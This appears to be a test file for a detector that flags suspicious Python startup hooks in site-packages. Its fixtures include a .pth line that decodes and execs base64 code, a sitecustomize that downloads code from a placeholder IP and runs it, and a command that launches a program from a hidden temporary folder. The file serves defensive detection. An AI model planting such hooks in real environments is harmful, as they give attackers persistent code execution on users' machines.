import { expect, test } from 'vitest';
import { because, openSightings, sightings } from '../../../tests/told.ts';
import { pythonHooks } from './python-hooks.ts';

const site = '/usr/local/lib/python3.11/site-packages';

test('a line that decodes and runs is told openly', () => {
  const line =
    "import os, subprocess, sys; subprocess.Popen([sys.executable, '-c', \"import base64; exec(base64.b64decode('cHJpbnQoMSk='))\"])";
  expect(openSightings(pythonHooks, { [`${site}/x_init.pth`]: `${line}\n` })).toMatchObject([
    { path: `${site}/x_init.pth`, line: 1, ...because('decodes') },
  ]);
});

test('a customization that fetches and runs, or starts a program of a temporary folder, is told openly', () => {
  expect(
    openSightings(pythonHooks, {
      [`${site}/sitecustomize.py`]:
        "import urllib.request\nexec(urllib.request.urlopen('http://198.51.100.7/a').read())\n",
      [`${site}/usercustomize.py`]: "import os\nos.system('/tmp/.a/b &')\n",
    }),
  ).toMatchObject([because('fetches-and-runs'), because('from-temporary-folder')]);
});

test('lines of tools are told aside, and paths not at all', () => {
  const files = {
    [`${site}/distutils-precedence.pth`]:
      "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim();\n",
    [`${site}/matplotlib-3.1-nspkg.pth`]:
      "import sys, types, os;has_mfs = sys.version_info > (3, 5);p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('mpl_toolkits',));m = 1\n",
    [`${site}/_virtualenv.pth`]: 'import _virtualenv\n',
    [`${site}/easy-install.pth`]: '/srv/app\n',
    [`${site}/sitecustomize.py`]: 'try:\n    import apport_python_hook\nexcept ImportError:\n    pass\n',
    '/home/ann/model.pth': 'import os; os.system("/tmp/x")',
  };
  expect(openSightings(pythonHooks, files)).toEqual([]);
  expect(sightings(pythonHooks, files)).toHaveLength(4);
});
